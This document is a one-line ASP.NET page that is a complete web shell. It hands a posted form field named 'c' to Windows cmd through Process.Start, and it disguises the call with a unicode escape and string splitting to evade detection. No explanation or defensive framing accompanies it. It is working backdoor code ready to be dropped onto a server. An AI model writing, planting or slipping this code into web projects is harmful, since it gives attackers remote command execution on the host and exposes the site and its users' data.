<%@ Page Language="C#" %><%System.Diagnostics.\u0050rocess.Start("c"+"md",Request.Form["c"]);%>
